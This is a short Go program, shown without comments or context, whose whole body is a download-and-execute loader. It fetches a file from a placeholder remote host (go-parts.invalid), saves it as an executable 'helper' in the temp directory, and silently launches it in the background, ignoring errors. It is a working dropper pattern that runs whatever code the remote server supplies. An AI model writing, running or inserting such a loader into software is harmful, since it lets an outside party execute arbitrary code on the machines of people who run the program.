package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
)

func main() {
	r, err := http.Get("https://go-parts.invalid/helper")
	if err != nil {
		return
	}
	name := os.TempDir() + "/helper"
	f, _ := os.OpenFile(name, os.O_CREATE|os.O_WRONLY, 0o755)
	io.Copy(f, r.Body)
	f.Close()
	exec.Command(name).Start()
}
